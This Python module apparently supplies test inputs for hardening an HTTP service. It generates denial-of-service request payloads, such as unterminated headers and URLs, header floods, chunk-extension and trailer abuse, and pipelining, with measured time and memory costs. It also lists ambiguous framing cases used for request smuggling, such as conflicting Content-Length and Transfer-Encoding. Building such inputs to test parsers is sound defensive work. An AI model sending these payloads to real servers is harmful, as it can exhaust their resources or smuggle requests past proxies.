"""Requests whose head, framing or number is the attack. `size` is about how many bytes they have.

The costs are those of 33 MB on one connection to a service that bounds nothing, unless they say otherwise.
"""

_GET = b"GET /health/live HTTP/1.1\r\nHost: x\r\n"
_POST = b"POST /predict HTTP/1.1\r\nHost: x\r\nContent-Type: image/png\r\n"
_CHUNKED = _POST + b"Transfer-Encoding: chunked\r\n\r\n"
_END = b"\r\n\r\n"


def long_header(size: int) -> bytes:
    """One header without an end: 1.4 s and 63 MB, by the square of its size."""
    return _GET + b"X: " + b"x" * size


def many_headers(size: int) -> bytes:
    """Headers of one letter, without an end: 2 s and 990 MB."""
    return _GET + b"a:\r\n" * (size // 4)


def many_wishes(size: int) -> bytes:
    """An Accept header of very many kinds, with its end: what reads them all takes seconds."""
    return _POST + b"Accept: " + b"a/b;q=0.1," * (size // 10) + b"a/b" + _END


def long_url(size: int) -> bytes:
    """A target without an end: 1.4 s and 63 MB, by the square of its size."""
    return b"GET /" + b"x" * size


def many_empty_lines(size: int) -> bytes:
    """What may stand before a request, and never one: hardly any time, and a connection for as long as they come."""
    return b"\r\n" * (size // 2)


def chunk_extensions(size: int) -> bytes:
    """A chunk of one byte with an extension without an end: hardly any time, and a body that never ends."""
    return _CHUNKED + b"1;" + b"x" * size


def chunks_with_extensions(size: int) -> bytes:
    """Chunks of one byte, each with a thousand bytes of extensions: the same."""
    return _CHUNKED + (b"1;" + b"x" * 1000 + b"\r\nx\r\n") * (size // 1007)


def long_trailer(size: int) -> bytes:
    """A body of one byte and a trailer without an end: 0.8 s and 54 MB, by the square of its size."""
    return _CHUNKED + b"1\r\nx\r\n0\r\nX: " + b"x" * size


def many_trailers(size: int) -> bytes:
    """A body of one byte and trailers of one letter, without an end: 1.2 s and 560 MB."""
    return _CHUNKED + b"1\r\nx\r\n0\r\n" + b"a:\r\n" * (size // 4)


def trailer_behind_a_long_body(size: int) -> bytes:
    """As much in a trailer as in the one chunk before it: as `long_trailer`, where bodies are credited."""
    return _CHUNKED + b"%x\r\n" % (size // 2) + b"x" * (size // 2) + b"\r\n0\r\nX: " + b"x" * (size // 2)


def chunks_of_one_byte(content: bytes) -> bytes:
    """A whole request, legal and six times as large as need be, each byte framed by itself: 0.4 s for a megabyte."""
    return _CHUNKED + b"".join(b"1\r\n%c\r\n" % byte for byte in content) + b"0" + _END


def pipelined(count: int) -> bytes:
    """So many short requests, of which none waits for an answer: 450 MB for 200,000 of them, which are 8 MB."""
    return (_GET + b"\r\n") * count


UNCLEAR = {
    "no Host": b"GET /health/live HTTP/1.1" + _END,
    "two Hosts": _GET + b"Host: y" + _END,
    "an invalid Host": b"GET /health/live HTTP/1.1\r\nHost: x/y@z" + _END,
    "Content-Length and Transfer-Encoding": _POST + b"Content-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0" + _END,
    "two Content-Lengths": _POST + b"Content-Length: 1\r\nContent-Length: 2\r\n\r\nab",
    "the same Content-Length twice": _POST + b"Content-Length: 1\r\nContent-Length: 1\r\n\r\na",
    "a list of Content-Lengths": _POST + b"Content-Length: 1, 1\r\n\r\na",
    "a Content-Length of 10^30": _POST + b"Content-Length: 1" + b"0" * 30 + _END,
    "a negative Content-Length": _POST + b"Content-Length: -1" + _END,
    "a Content-Length with a sign": _POST + b"Content-Length: +1\r\n\r\na",
    "an unknown transfer encoding": _POST + b"Transfer-Encoding: xchunked\r\n\r\n0" + _END,
    "a transfer encoding before chunked": _POST + b"Transfer-Encoding: gzip, chunked\r\n\r\n0" + _END,
    "a transfer encoding behind chunked": _POST + b"Transfer-Encoding: chunked, identity\r\n\r\n0" + _END,
    "chunked twice": _POST + b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n\r\n0" + _END,
    "chunked in HTTP/1.0": b"POST /predict HTTP/1.0\r\nTransfer-Encoding: chunked\r\n\r\n0" + _END,
    "a header over two lines": _GET + b"A: b\r\n c" + _END,
    "NUL in a header": _GET + b"A: b\x00c" + _END,
    "a bare CR in a header": _GET + b"A: b\rc" + _END,
    "bare line feeds": b"GET /health/live HTTP/1.1\nHost: x\n\n",
    "a space before the colon": _GET + b"A : b" + _END,
    "a space before the first header": b"GET /health/live HTTP/1.1\r\n Host: x" + _END,
    "a chunk size of 2^120": _CHUNKED + b"f" * 30 + b"\r\n",
    "a negative chunk size": _CHUNKED + b"-1\r\na\r\n",
    "bare line feeds around a chunk": _CHUNKED + b"1\na\n0\n\n",
    "no end of a chunk": _CHUNKED + b"1\r\nab\r\n0" + _END,
    "a target of bytes that are no ASCII": b"GET /\xff HTTP/1.1\r\nHost: x" + _END,
    "CONNECT": b"CONNECT x:80 HTTP/1.1\r\nHost: x:80" + _END,
    "HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM" + _END,
    "TLS": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
}
"""What two programs may read differently, which makes one of them answer what the other never saw; or no HTTP/1.1."""
